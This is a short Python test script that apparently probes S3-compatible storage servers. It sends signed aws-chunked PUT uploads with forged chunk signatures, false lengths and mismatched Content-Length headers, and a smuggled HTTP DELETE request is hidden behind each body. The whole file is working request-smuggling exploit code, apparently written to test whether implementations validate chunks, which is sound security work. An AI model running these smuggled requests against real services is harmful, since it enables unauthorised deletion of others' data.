"""Sign an upload in chunks, wrongly: bad chunk signatures, lengths that lie, and another request behind the last one."""

# aims: aws
# control: none (an AWS checks its chunks, the embedded one does not)
# seconds: 30
from attack import tried
from cloud import SITE, UPLOADED, host, send, signed

tried()
deletion = f"DELETE {UPLOADED} HTTP/1.1\r\nHost: {host()}\r\nContent-Length: 0\r\n\r\n"
for sentinel in (
    "STREAMING-AWS4-HMAC-SHA256-PAYLOAD",
    "STREAMING-UNSIGNED-PAYLOAD-TRAILER",
    "UNSIGNED-PAYLOAD",
    "STREAMING-NONE",
):
    for chunks in (
        f"5;chunk-signature={'0' * 64}\r\nhello\r\n0;chunk-signature={'0' * 64}\r\n\r\n{deletion}",
        f"5\r\nhello\r\n0\r\n\r\n{deletion}",
        f"ffffffffffffffff\r\nhello\r\n0\r\n\r\n{deletion}",
        f"-5\r\nhello\r\n0\r\n\r\n{deletion}",
        f"0\r\nx-amz-checksum-crc32:AAAAAA==\r\n\r\n{deletion}",
        deletion,
    ):
        headers = {
            "Content-Encoding": "aws-chunked",
            "X-Amz-Decoded-Content-Length": "5",
            "X-Amz-Trailer": "x-amz-checksum-crc32",
        }
        made = signed("PUT", f"/{SITE}/page.html", "", headers, b"", "s3", payload=sentinel)
        head = f"PUT /{SITE}/page.html HTTP/1.1\r\n" + "".join(f"{name}: {value}\r\n" for name, value in made.items())
        short = len(chunks) - len(deletion)
        send(f"{head}Content-Length: {short}\r\n\r\n{chunks}".encode())
